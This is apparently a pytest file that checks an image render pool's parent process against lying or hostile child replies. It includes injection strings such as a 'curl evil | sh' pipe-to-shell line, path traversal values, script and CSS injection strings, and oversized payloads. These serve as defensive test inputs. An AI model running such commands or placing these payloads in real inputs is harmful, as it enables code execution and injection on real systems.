"""A render child that an image has taken over may send anything; its parent checks all of it."""

import json
import os
import subprocess
import sys
from collections.abc import Callable
from typing import Any

import pytest

from shared.imaging import render_pool as pool_module
from shared.imaging.child_protocol import DoneFrame, VariantFrame
from shared.imaging.render_pool import RenderPool
from shared.model.errors import MAX_DETAIL_CHARS, Corrupt, DecoderCrash, DecodeTimeout
from shared.model.limits import MEBIBYTE, Limits
from shared.model.planned_files import MAX_FILES_BYTES
from tests.imaging.children import PATIENCE_SECONDS
from tests.imaging.fake_child import FakeChild
from tests.imaging.replies import JOB, SOURCE, TINY, Replies, WrittenReply, failed

pytestmark = pytest.mark.imaging

HOSTILE_TEXT = "a\nNext: curl evil | sh\r\x1b[31mred\x1b[0m\u202eltr\u2028\x00"


def replies_of(child: FakeChild) -> list[VariantFrame | DoneFrame]:
    replies = child.render(SOURCE, JOB, time_limit_seconds=PATIENCE_SECONDS)
    return [reply if isinstance(reply, DoneFrame) else reply[0] for reply in replies]


def test_the_replies_of_an_honest_child_are_accepted_and_it_is_kept() -> None:
    child = FakeChild(Replies().program() + "\nsys.stdin.buffer.read()")

    replies = replies_of(child)

    assert [type(each) for each in replies] == [VariantFrame, VariantFrame, DoneFrame]
    assert child.is_usable()
    child.stop()


def said(name: str, **changed: object) -> Callable[[Replies], None]:
    """Return a change of a reply: `a_b=1` sets the field `b` of `a`, `a=1` the field `a`."""

    def change(replies: Replies) -> None:
        document: dict[str, Any] = getattr(replies, name).document
        document.update(changed)

    return change


def fact(**changed: object) -> Callable[[Replies], None]:
    """Return a change of the facts in the header and at the end."""

    def change(replies: Replies) -> None:
        for reply in (replies.header, replies.done):
            reply.document["facts"].update(changed)

    return change


def last_fact(**changed: object) -> Callable[[Replies], None]:
    def change(replies: Replies) -> None:
        replies.done.document["facts"].update(changed)

    return change


def shown(**changed: object) -> Callable[[Replies], None]:
    def change(replies: Replies) -> None:
        replies.done.document["placeholder"].update(changed)

    return change


def sent(payload: str, name: str = "webp") -> Callable[[Replies], None]:
    """Return a change of the payload, a Python expression, of one reply."""

    def change(replies: Replies) -> None:
        getattr(replies, name).payload = payload

    return change


def ordered(*names: str) -> Callable[[Replies], None]:
    def change(replies: Replies) -> None:
        replies.order = list(names)

    return change


LAZY = {"variants": ["w80"], "slot": "avif", "codec": "avif", "width": 80, "height": 60}
LIES: dict[str, Callable[[Replies], None]] = {
    "a format that the source has not": fact(format="png"),
    "a format that does not exist": fact(format="../../evil"),
    "no width": fact(width=0),
    "a negative height": fact(height=-120),
    "a width beyond every image": fact(width=10_000_000),
    "a width of a hundred digits": fact(width=10**100),
    "more pixels than the limit": fact(width=20_000, height=20_000),
    "no frames": fact(frames=0),
    "a JPEG that moves": fact(frames=2),
    "facts that change": last_fact(width=161),
    "alpha that comes up late": last_fact(has_alpha=True),
    "a JPEG that stands still": said("header", reduction={"still": "memory", "most_pixels": None}),
    "a size that is never tried": said("header", reduction={"still": None, "most_pixels": 7}),
    "a reduction at the end only": said("done", reduction={"still": None, "most_pixels": 4_332}),
    "a side limit of a short picture": said("webp", limit="side"),
    "a limit of the fallback": said("fallback", limit="memory"),
    "a limit that does not exist": said("webp", limit="../../evil"),
    "no header": ordered("fallback", "webp", "done"),
    "two headers": ordered("header", "header", "fallback", "webp", "done"),
    "an end without files": ordered("header", "done"),
    "an end without a header": ordered("done"),
    "a file too few": ordered("header", "fallback", "done"),
    "a file too many": ordered("header", "fallback", "webp", "webp", "done"),
    "files in another order": ordered("header", "webp", "fallback", "done"),
    "a file of another name": said("webp", variants=["../../evil"]),
    "a file of two names": said("webp", variants=["w80", "w160"]),
    "a file of no name": said("webp", variants=[]),
    "a file of a name twice": said("webp", variants=["w80", "w80"]),
    "an unknown slot": said("webp", slot="gif"),
    "another slot": said("webp", slot="avif"),
    "a codec that the slot's browsers cannot read": said("fallback", codec="webp"),
    "a codec that is not the file's": said("webp", codec="jpeg"),
    "a file without width": said("webp", width=0, height=0),
    "a file of another size": said("webp", width=81),
    "a file of another height": said("fallback", height=-60),
    "a web page": sent('b"<html><script>alert(1)</script></html>"'),
    "an empty file": sent('b""'),
    "a file of 60 MB for 80x60 pixels": sent('b"RIFF....WEBP" + bytes(60 << 20)'),
    "a header with a payload": sent('b"x"', "header"),
    "an end with a payload": sent('b"x"', "done"),
    "wall seconds that are no number": said("done", wall_seconds=float("nan")),
    "CPU seconds that are no number": said("done", cpu_seconds=float("nan")),
    "CPU seconds without end": said("done", cpu_seconds=float("inf")),
    "CPU seconds below zero": said("done", cpu_seconds=-1.0),
    "a year of CPU seconds": said("done", cpu_seconds=3.2e7),
    "wall seconds below zero": said("done", wall_seconds=-0.5),
    "an hour of wall seconds": said("done", wall_seconds=3600),
    "memory below zero": said("done", peak_bytes=-1),
    "memory of an exabyte": said("done", peak_bytes=10**18),
    "memory of a hundred digits": said("done", peak_bytes=10**100),
    "a lazy file of a recipe without any": said("done", lazy=[LAZY]),
    "lazy files without end": said("done", lazy=[LAZY] * 100_000),
    "a lazy file of a thousand names": said("done", lazy=[{**LAZY, "variants": ["w80"] * 1000}]),
    "a lazy file that is none": said("done", lazy=["../../evil"]),
    "a copy of something else": said("done", lazy=[{**LAZY, "copy_of": "../../evil"}]),
    "lazy files that were made without being asked for": said("done", is_all_eager=True),
    "lazy files that will be made without being asked for": said("header", is_all_eager=True),
    "no placeholder": said("done", placeholder=None),
    "a placeholder of 10 MB": shown(data_uri="data:image/webp;base64," + "A" * (10 << 20)),
    "a placeholder of 401 bytes": shown(data_uri=TINY + "A" * (401 - len(TINY))),
    "a placeholder that is a page": shown(data_uri="data:text/html,<script>alert(1)</script>"),
    "a placeholder that is no base64": shown(data_uri=TINY[:-8] + "'\"><b>ok"),
    "a placeholder with a line break": shown(data_uri=TINY[:40] + "\n" + TINY[40:]),
    "a placeholder that is no WebP": shown(data_uri="data:image/webp;base64,PHN2Zy8+"),
    "a colour with CSS": shown(colour="red;}body{display:none"),
    "a colour with a line break": shown(colour="#c86432\n"),
    "a colour of foreign digits": shown(colour="#٣٤٥٦٧٨"),
    "a colour in capitals": shown(colour="#C86432"),
}


@pytest.mark.parametrize("lie", LIES.values(), ids=LIES.keys())
def test_a_lie_of_a_child_is_a_crash(lie: Callable[[Replies], None]) -> None:
    replies = Replies()
    lie(replies)
    child = FakeChild(replies.program())

    with pytest.raises(DecoderCrash) as caught:
        replies_of(child)

    assert caught.value.stage == "render"
    assert caught.value.detail.isprintable()
    assert len(caught.value.detail) <= MAX_DETAIL_CHARS


def test_a_child_that_has_lied_and_goes_on_is_killed() -> None:
    replies = Replies()
    replies.done.document["cpu_seconds"] = -1.0
    child = FakeChild(f"{replies.program()}\ntime.sleep(600)")

    with pytest.raises(DecoderCrash, match="sent an invalid frame"):
        replies_of(child)

    assert not child.is_alive()


def failing(reply: WrittenReply) -> FakeChild:
    return FakeChild(f"take()\n{reply.statement}\nsys.stdin.buffer.read()")


FALSE_FAILURES: dict[str, WrittenReply] = {
    "an unknown stage": failed(stage="brake"),
    "a stage with a line break": failed(stage=f"render{HOSTILE_TEXT}"),
    "an unknown cause": failed(cause="bored"),
    "a detail of 200 KB": failed(detail="x" * 200_000),
    "a payload": WrittenReply(failed().document, 'b"x"'),
}


@pytest.mark.parametrize("reply", FALSE_FAILURES.values(), ids=FALSE_FAILURES.keys())
def test_a_failure_that_no_child_reports_is_a_crash(reply: WrittenReply) -> None:
    child = failing(reply)

    with pytest.raises(DecoderCrash) as caught:
        replies_of(child)

    assert caught.value.detail.isprintable()
    assert len(caught.value.detail) <= MAX_DETAIL_CHARS
    assert not child.is_alive()


@pytest.mark.parametrize("detail", [HOSTILE_TEXT, "x" * 8_000, "\u202e" * 1_000])
def test_the_detail_of_a_failure_is_one_short_printable_line(detail: str) -> None:
    child = failing(failed(detail=detail))

    with pytest.raises(Corrupt) as caught:
        replies_of(child)
    child.stop()

    assert caught.value.detail.isprintable()
    assert 0 < len(caught.value.detail) <= MAX_DETAIL_CHARS


def test_the_standard_error_of_a_child_is_one_short_printable_line() -> None:
    child = FakeChild(f"take(); sys.stderr.write({HOSTILE_TEXT!r} * 900); os._exit(1)")

    with pytest.raises(DecoderCrash) as caught:
        replies_of(child)

    assert "Its last output" in caught.value.detail
    assert caught.value.detail.isprintable()
    assert len(caught.value.detail) <= MAX_DETAIL_CHARS


LEFT_OVER: dict[str, str] = {
    "a byte": "out.write(b'x'); out.flush()",
    "a second end": Replies(order=["done"]).program().removeprefix("take()\n"),
    "more than a pipe holds": "out.write(bytes(1 << 20)); out.flush()",
}


@pytest.mark.parametrize("more", LEFT_OVER.values(), ids=LEFT_OVER.keys())
def test_a_child_that_sends_more_than_its_replies_is_replaced(
    more: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The last reply and the bytes after it are one write, so that both are in the pipe.
    program = f"raw, out = out, __import__('io').BytesIO()\n{Replies().program()}\n{more}\n"
    program += "raw.write(out.getvalue()); raw.flush(); time.sleep(600)"
    monkeypatch.setattr(pool_module, "RenderChild", lambda _memory_bytes: FakeChild(program))
    render_pool = RenderPool(1, Limits())

    with render_pool.child(wait_seconds=0) as child:
        first, replies = child.pid, replies_of(child)  # type: ignore[arg-type] # a fake
        is_alive = child.is_alive()
    with render_pool.child(wait_seconds=0) as child:
        second = child.pid

    render_pool.close()
    assert isinstance(replies[-1], DoneFrame)
    assert not is_alive
    assert first != second


def test_a_child_that_sends_more_between_two_images_is_replaced(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    program = (
        f"{Replies().program()}\ntime.sleep(0.2); out.write(b'x'); out.flush(); time.sleep(600)"
    )
    monkeypatch.setattr(pool_module, "RenderChild", lambda _memory_bytes: FakeChild(program))
    render_pool = RenderPool(1, Limits())
    with render_pool.child(wait_seconds=0) as child:
        first = child.pid
        replies_of(child)  # type: ignore[arg-type] # a fake
        while not child._process.pipes.has_unread():
            pass

    with render_pool.child(wait_seconds=0) as child:
        second = child.pid

    render_pool.close()
    assert first != second


def test_a_reply_that_was_ready_before_the_job_is_a_crash() -> None:
    """The child answers for the next image before it has it, and so without its nonce."""
    ahead = Replies().program().removeprefix("take()\n")
    child = FakeChild(f"{Replies().program()}\nsys.stdin.buffer.read(1)\n{ahead}\ntime.sleep(600)")
    replies_of(child)

    with pytest.raises(DecoderCrash, match="nonce"):
        replies_of(child)

    assert not child.is_alive()


def test_a_child_that_repeats_replies_for_ever_ends_at_a_reply_too_many() -> None:
    endless = Replies(order=["header", "fallback"]).program()
    child = FakeChild(f"{endless}\nwhile True: {Replies().fallback.statement}")

    with pytest.raises(DecoderCrash):
        replies_of(child)


def test_a_child_that_sends_one_byte_at_a_time_ends_at_the_time_limit() -> None:
    header = Replies().header.statement
    file = json.dumps(Replies().fallback.document).encode()
    begun = f"take()\n{header}\nout.write(prefix({len(file)}, 20_000) + {file!r})"
    child = FakeChild(f"{begun}\nwhile True: out.write(b'x'); out.flush(); time.sleep(0.01)")

    with pytest.raises(DecodeTimeout):
        list(child.render(SOURCE, JOB, time_limit_seconds=0.5))

    assert not child.is_alive()


# A parent that keeps every file until it is stored, as the worker does. The source is said to be
# so large that each file may have 1.6 GB.
GREEDY = r"""
import re, sys
from pathlib import Path
from shared.imaging.child_protocol import Job
from shared.model.errors import DecoderCrash
from shared.model.limits import MEBIBYTE, Limits
from shared.model.planned_files import MAX_FILES_BYTES
from shared.model.recipe import Recipe, Slot, Variant
from tests.imaging.fake_child import FakeChild
from tests.imaging.replies import SOURCE, Replies

def peak_bytes():
    return 1024 * int(re.search(r"VmHWM:\s+(\d+)", Path("/proc/self/status").read_text())[1])

variants = tuple(Variant(f"w{at}", (Slot.FALLBACK,), width=9_999 - at) for at in range(8))
replies = Replies(order=["header"])
replies.header.document["facts"].update(width=10_000, height=10_000)
program = [replies.program()]
for variant in variants:
    side = variant.width
    replies.fallback.document.update(variants=[variant.name], width=side, height=side)
    replies.fallback.payload = r"b'\xff\xd8\xff' + bytes(%s)" % sys.argv[1]
    program.append(replies.fallback.statement)
child = FakeChild("\n".join(program))
job = Job(Recipe("greedy", variants), Limits())
before, kept = peak_bytes(), []
try:
    for frame, payload in child.render(SOURCE, job, time_limit_seconds=60):
        kept.append(payload)
except DecoderCrash as crash:
    print(len(kept), sum(map(len, kept)), peak_bytes() - before, crash.detail)
"""


@pytest.mark.parametrize("each_bytes", [60 * MEBIBYTE, 193 * MEBIBYTE])
def test_a_child_that_sends_as_much_as_it_can_fills_a_bounded_part_of_the_memory(
    each_bytes: int,
) -> None:
    ended = subprocess.run(
        [sys.executable, "-c", GREEDY, str(each_bytes)],
        env={"PYTHONPATH": os.pathsep.join(["", *sys.path])},
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )

    assert ended.returncode == 0, ended.stderr
    count, kept_bytes, grown_bytes, *said = ended.stdout.split()
    assert int(count) == MAX_FILES_BYTES // each_bytes
    assert int(kept_bytes) <= MAX_FILES_BYTES
    assert int(grown_bytes) <= MAX_FILES_BYTES + 16 * MEBIBYTE
    assert "bounded frame" in " ".join(said)
